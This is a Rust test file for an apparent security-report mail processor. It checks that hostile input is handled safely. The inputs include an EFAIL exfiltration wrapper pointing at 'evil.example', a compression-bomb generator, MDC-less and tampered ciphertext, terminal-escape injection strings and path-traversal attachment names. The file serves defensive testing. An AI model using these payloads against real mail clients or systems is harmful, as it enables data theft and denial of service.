//! Hostile input: each case has its stated outcome, and none panics.
//!
//! Ciphertexts are made at test time by real GnuPG (and sequoia for the packet
//! shapes GnuPG will not make) to the corpus' test team key.

use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use sequoia_openpgp as pgp;
use vulnmail::process::{Keys, Options, Outcome, process};

use crate::common::*;

fn fixture_keys() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/keys")
}

fn cert(name: &str) -> pgp::Cert {
    vulnmail::openpgp::keys::parse_certs(&std::fs::read(fixture_keys().join(name)).unwrap()).unwrap().remove(0)
}

/// A GnuPG home with the team's public key and Bob's secret key.
fn gnupg() -> &'static Path {
    static HOME: OnceLock<PathBuf> = OnceLock::new();
    HOME.get_or_init(|| {
        let dir = tempfile::Builder::new().prefix("vm-gpg-").tempdir().unwrap().keep();
        set_mode(&dir, 0o700);
        for k in ["team.pub.asc", "bob.sec.asc", "mallory.pub.asc"] {
            let o = std::process::Command::new("gpg")
                .env("GNUPGHOME", &dir)
                .args(["--batch", "--quiet", "--import"])
                .arg(fixture_keys().join(k))
                .output()
                .unwrap();
            assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        }
        dir
    })
}

fn gpg(args: &[&str], input: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut child = std::process::Command::new("gpg")
        .env("GNUPGHOME", gnupg())
        .args(["--batch", "--quiet", "--trust-model", "always", "--pinentry-mode", "loopback", "--passphrase", ""])
        .args(args)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(input).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "gpg {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    out.stdout
}

fn run(raw: &[u8]) -> Outcome {
    let team = vec![cert("team.sec.asc")];
    let known = vec![cert("bob.pub.asc"), cert("ada.pub.asc")];
    process(raw, &Keys { team: &team, known: &known }, None, &Options::default())
}

fn inline_mail(from: &str, armored: &[u8]) -> Vec<u8> {
    format!(
        "From: {from}\r\nTo: security@example.org\r\nSubject: report\r\nMessage-ID: <h{}@example.com>\r\n\r\n{}",
        rand_id(),
        String::from_utf8_lossy(armored).replace('\n', "\r\n")
    )
    .into_bytes()
}

fn rand_id() -> u64 {
    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos() as u64
}

fn pgp_mime(from: &str, subject: &str, armored: &[u8], extra_part: Option<&str>) -> Vec<u8> {
    let enc = format!(
        "--e1\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--e1\r\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\r\n\r\n{}\r\n--e1--\r\n",
        String::from_utf8_lossy(armored).replace('\n', "\r\n")
    );
    match extra_part {
        None => format!(
            "From: {from}\r\nTo: security@example.org\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e1\r\n\r\n{enc}"
        ),
        Some(plain) => format!(
            "From: {from}\r\nTo: security@example.org\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m1\r\n\r\n--m1\r\nContent-Type: text/plain\r\n\r\n{plain}\r\n--m1\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e1\r\n\r\n{enc}\r\n--m1\r\nContent-Type: text/plain\r\n\r\n{plain}\r\n--m1--\r\n"
        ),
    }
    .into_bytes()
}

#[test]
fn pgp_mime_signed_then_encrypted_by_gnupg_with_a_protected_subject() {
    let inner = b"Content-Type: multipart/mixed; boundary=in; protected-headers=\"v1\"\r\nSubject: Heap overflow in the PNG decoder\r\n\r\n--in\r\nContent-Type: text/plain\r\n\r\n## Summary\r\nHeap overflow when decoding a crafted PNG.\r\n\r\n## Impact\r\nRemote code execution.\r\n--in\r\nContent-Type: text/x-python; name=poc.py\r\nContent-Disposition: attachment; filename=poc.py\r\n\r\nprint('crash')\r\n--in--\r\n";
    let ct = gpg(
        &["--armor", "--sign", "--local-user", "bob@example.com", "--encrypt", "-r", "security@example.org"],
        inner,
    );
    let out = run(&pgp_mime("Bob Finder <bob@example.com>", "...", &ct, None));
    let r = &out.report;
    assert_eq!(
        (r.encryption.status.as_str(), r.encryption.format.as_str()),
        ("decrypted", "pgp-mime"),
        "{:?}",
        r.encryption
    );
    assert_eq!(
        r.subject.as_deref(),
        Some("Heap overflow in the PNG decoder"),
        "the protected subject replaces the outer one"
    );
    assert_eq!(r.signature.status, "good", "{:?} {:?}", r.signature, r.notes);
    assert_eq!(r.signature.signer_matches_from, Some(true));
    assert_eq!(r.fields.impact.as_deref(), Some("Remote code execution."));
    assert_eq!(r.attachments.len(), 1);
    assert!(r.attachments[0].encrypted && r.attachments[0].filename.as_deref() == Some("poc.py"));
    assert!(out.encrypted_root);
}

#[test]
fn a_signature_by_someone_else_than_the_sender_is_named_as_such() {
    let ct = gpg(
        &["--armor", "--sign", "--local-user", "bob@example.com", "--encrypt", "-r", "security@example.org"],
        b"Summary: spoofed\r\n",
    );
    let r = run(&inline_mail("Ada Reporter <ada@example.net>", &ct)).report;
    assert_eq!(r.signature.status, "good");
    assert_eq!(r.signature.signer_matches_from, Some(false));
}

#[test]
fn no_mdc_is_refused() {
    let ct = gpg(
        &["--armor", "--rfc2440", "--cipher-algo", "CAST5", "--disable-mdc", "--encrypt", "-r", "security@example.org"],
        b"Summary: secret without integrity\r\n",
    );
    let r = run(&inline_mail("x@example.com", &ct)).report;
    assert_eq!(r.encryption.status, "failed", "{:?}", r.encryption);
    assert!(r.fields.summary.is_none(), "no plaintext may be used");
}

#[test]
fn a_tampered_message_fails_its_integrity_check() {
    let ct = gpg(&["--encrypt", "-r", "security@example.org"], &b"Summary: tamper with me\r\n".repeat(200));
    let mut bad = ct.clone();
    let n = bad.len();
    bad[n - 30] ^= 0x40; // inside the encrypted data, near the MDC
    let armored = {
        use base64::Engine as _;
        let b64 = base64::engine::general_purpose::STANDARD.encode(&bad);
        let lines: Vec<String> = b64.as_bytes().chunks(64).map(|c| String::from_utf8_lossy(c).into_owned()).collect();
        format!("-----BEGIN PGP MESSAGE-----\n\n{}\n-----END PGP MESSAGE-----\n", lines.join("\n"))
    };
    let r = run(&inline_mail("x@example.com", armored.as_bytes())).report;
    assert_eq!(r.encryption.status, "failed", "{:?}", r.encryption);
    assert!(r.fields.summary.is_none());
}

#[test]
fn an_encrypted_part_among_plain_parts_uses_only_the_decrypted_text() {
    // EFAIL direct exfiltration: the attacker's plain parts around someone's ciphertext.
    let ct = gpg(&["--armor", "--encrypt", "-r", "security@example.org"], b"Summary: the real report\r\n");
    let raw = pgp_mime("attacker@example.com", "hi", &ct, Some("<img src=\"https://evil.example/?x="));
    let out = run(&raw);
    assert_eq!(out.report.encryption.status, "decrypted");
    assert!(!out.encrypted_root, "the ciphertext is wrapped in someone else's mail");
    assert!(!out.text.contains("evil.example"), "{}", out.text);
    assert!(out.report.fields.references.is_empty());
    assert_eq!(out.report.fields.summary.as_deref(), Some("the real report"));
}

fn compressed(data_len: usize, layers: usize) -> Vec<u8> {
    use pgp::serialize::stream::{Compressor, LiteralWriter, Message};
    use std::io::Write;
    let team = cert("team.pub.asc");
    let p = pgp::policy::StandardPolicy::new();
    let recipients: Vec<_> = team
        .keys()
        .with_policy(&p, None)
        .for_transport_encryption()
        .map(pgp::serialize::stream::Recipient::from)
        .collect();
    let mut sink = Vec::new();
    let mut m = Message::new(&mut sink);
    m = pgp::serialize::stream::Encryptor::for_recipients(m, recipients).build().unwrap();
    for _ in 0..layers {
        m = Compressor::new(m)
            .algo(pgp::types::CompressionAlgorithm::Zlib)
            .level(pgp::types::CompressionLevel::best())
            .build()
            .unwrap();
    }
    let mut w = LiteralWriter::new(m).build().unwrap();
    let zeros = vec![0u8; 1 << 20];
    let mut left = data_len;
    while left > 0 {
        let n = left.min(zeros.len());
        w.write_all(&zeros[..n]).unwrap();
        left -= n;
    }
    w.finalize().unwrap();
    sink
}

#[test]
fn a_compression_bomb_is_stopped_with_a_clear_reason() {
    let bomb = compressed(300 << 20, 2); // 300 MiB of zeros, a few hundred bytes on the wire
    assert!(bomb.len() < 64 * 1024, "{}", bomb.len());
    let start = std::time::Instant::now();
    let team = vec![cert("team.sec.asc")];
    let err = vulnmail::openpgp::decrypt::decrypt(&team, &[], &bomb, Default::default(), std::time::SystemTime::now())
        .expect_err("refused");
    assert!(err.to_string().contains("exceeds the limit"), "{err}");
    assert!(start.elapsed() < std::time::Duration::from_secs(20));
}

#[test]
fn twenty_nested_compression_layers_are_refused() {
    let nested = compressed(100, 20);
    let team = vec![cert("team.sec.asc")];
    let r = vulnmail::openpgp::decrypt::decrypt(&team, &[], &nested, Default::default(), std::time::SystemTime::now());
    assert!(r.is_err(), "20 layers must not be unpacked");
}

#[test]
fn deep_and_wide_mime_and_huge_headers_are_listed_with_a_reason() {
    let mut deep =
        String::from("From: x@example.com\r\nSubject: deep\r\nContent-Type: multipart/mixed; boundary=b0\r\n\r\n");
    for i in 0..1000 {
        deep.push_str(&format!("--b{i}\r\nContent-Type: multipart/mixed; boundary=b{}\r\n\r\n", i + 1));
    }
    let r = run(deep.as_bytes()).report;
    assert!(r.notes.iter().any(|n| n.contains("nested")), "{:?}", r.notes);
    assert_eq!(r.subject.as_deref(), Some("deep"));

    let mut wide =
        String::from("From: x@example.com\r\nSubject: wide\r\nContent-Type: multipart/mixed; boundary=w\r\n\r\n");
    for i in 0..10_000 {
        wide.push_str(&format!("--w\r\nContent-Type: text/plain\r\n\r\npart {i}\r\n"));
    }
    wide.push_str("--w--\r\n");
    let r = run(wide.as_bytes()).report;
    assert!(r.notes.iter().any(|n| n.contains("parts")), "{:?}", r.notes);

    let long = format!(
        "From: x@example.com\r\nSubject: {}\r\nX-Long: {}\r\n\r\nSummary: fine\r\n",
        "S".repeat(100),
        "h".repeat(1 << 20)
    );
    let r = run(long.as_bytes()).report;
    assert_eq!(r.fields.summary.as_deref(), Some("fine"));
}

#[test]
fn a_partly_signed_message_does_not_count_as_signed() {
    let signed = gpg(&["--clearsign", "--local-user", "bob@example.com"], b"Summary: signed part\n");
    let body =
        format!("{}\r\nUnsigned text appended by someone.\r\n", String::from_utf8_lossy(&signed).replace('\n', "\r\n"));
    let raw = format!("From: Bob Finder <bob@example.com>\r\nSubject: x\r\n\r\n{body}");
    let r = run(raw.as_bytes()).report;
    assert_eq!(r.signature.status, "unsigned", "{:?}", r.signature);
    assert!(r.signature.partial);
    assert!(r.notes.iter().any(|n| n.contains("only part")), "{:?}", r.notes);
    // The whole body signed: good.
    let raw = format!(
        "From: Bob Finder <bob@example.com>\r\nSubject: x\r\n\r\n{}",
        String::from_utf8_lossy(&signed).replace('\n', "\r\n")
    );
    let r = run(raw.as_bytes()).report;
    assert_eq!(r.signature.status, "good", "{:?} {:?}", r.signature, r.notes);
    assert_eq!(r.fields.summary.as_deref(), Some("signed part"));
}

#[test]
fn an_unknown_recipient_is_a_failed_report_naming_the_key() {
    let ct = gpg(&["--armor", "--encrypt", "-r", "mallory@example.com"], b"Summary: not for you\r\n");
    let r = run(&inline_mail("x@example.com", &ct)).report;
    assert_eq!(r.encryption.status, "failed");
    let err = r.encryption.error.unwrap();
    assert!(err.contains("not encrypted to any team key"), "{err}");
    let mallory = cert("mallory.pub.asc");
    let p = pgp::policy::StandardPolicy::new();
    let sub = mallory.keys().with_policy(&p, None).for_transport_encryption().next().unwrap().key().keyid().to_hex();
    assert!(err.contains(&sub), "names the recipient key {sub}: {err}");
}

#[test]
fn terminal_escapes_from_mail_never_reach_the_terminal() {
    let env = Env::new();
    env.init();
    let evil = "\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\u{9b}31m\u{202e}gpj.exe";
    let raw = format!(
        "From: =?utf-8?b?{}?= <x@example.com>\r\nSubject: =?utf-8?b?{}?=\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSummary: {evil}\r\n--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=\"../../{}\"\r\n\r\nx\r\n--b--\r\n",
        b64(evil),
        b64(&format!("subject {evil}")),
        "x\u{1b}[31m.txt"
    );
    let p = env.path("evil.eml");
    std::fs::write(&p, raw).unwrap();
    env.vmp().arg("import").arg(&p).assert().success();
    for args in [vec!["list"], vec!["show", "VR-2026-0001"], vec!["messages"]] {
        let o = env.vmp().args(&args).output().unwrap();
        let out = stdout(ok(&o));
        assert!(
            !out.contains('\u{1b}') && !out.contains('\u{9b}') && !out.contains('\u{202e}') && !out.contains('\u{7}'),
            "{args:?}: {out:?}"
        );
    }
    // Saving the attachment stays inside the directory, under a tame name.
    let dir = env.path("out");
    std::fs::create_dir_all(&dir).unwrap();
    let o = env.vmp().args(["attachment", "save", "VR-2026-0001", "0", "--to"]).arg(&dir).output().unwrap();
    ok(&o);
    let names: Vec<String> =
        std::fs::read_dir(&dir).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    assert_eq!(names.len(), 1);
    assert!(!names[0].contains('/') && !names[0].contains('\u{1b}') && !names[0].starts_with('.'), "{names:?}");
    assert!(!env.path("x\u{1b}[31m.txt").exists());
    // A second save does not replace the first.
    let o = env.vmp().args(["attachment", "save", "VR-2026-0001", "0", "--to"]).arg(&dir).output().unwrap();
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
}

fn b64(s: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(s.as_bytes())
}

#[test]
fn attachment_names_that_try_to_escape() {
    for (name, want) in [("../../x", "x"), ("/etc/passwd", "passwd"), ("..\\x", "x"), ("a\u{0}b", "a_b")] {
        assert_eq!(vulnmail::term::safe_file_name(name), want);
    }
    assert_eq!(vulnmail::term::safe_file_name(&"n".repeat(300)).chars().count(), 100);
}
